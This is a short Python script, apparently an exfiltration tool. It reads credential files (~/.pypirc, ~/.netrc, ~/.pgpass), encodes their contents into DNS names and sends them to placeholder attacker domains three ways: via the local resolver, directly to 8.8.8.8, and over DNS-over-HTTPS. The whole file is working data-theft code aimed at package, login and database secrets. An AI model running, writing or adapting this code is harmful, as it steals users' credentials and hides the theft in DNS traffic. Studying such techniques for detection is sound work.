"""Sends what it reads in names: by the system's resolver, straight to a server of its choice, and over HTTPS."""

import base64
import contextlib
import os
import socket
import struct
import urllib.request

TXT = 16
LABEL = 44


def read(path):
    with open(os.path.expanduser(path), "rb") as file:
        return file.read(1500)


def names(data, domain):
    text = base64.b32encode(data).decode().rstrip("=").lower()
    for number, place in enumerate(range(0, len(text), LABEL)):
        yield f"{number}.{text[place : place + LABEL]}.{domain}"


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x2828, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!B2H", 0, TXT, 1)


def ask(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line, contextlib.suppress(OSError):
        line.settimeout(2)
        line.sendto(question(name), (server, 53))
        line.recv(4096)


def ask_over_https(name):
    text = base64.urlsafe_b64encode(question(name)).decode().rstrip("=")
    address = f"https://dns.google/dns-query?dns={text}"
    request = urllib.request.Request(address, headers={"Accept": "application/dns-message"})
    with contextlib.suppress(OSError):
        urllib.request.urlopen(request, timeout=5).read()


def main():
    with open("/etc/resolv.conf") as file:
        own = next(line.split()[1] for line in file if line.startswith("nameserver"))
    for name in names(read("~/.pypirc"), "t28.example"):
        ask(own, name)
    for name in names(read("~/.netrc"), "direct28.example"):
        ask("8.8.8.8", name)
    for name in names(read("~/.pgpass"), "https28.example"):
        ask_over_https(name)
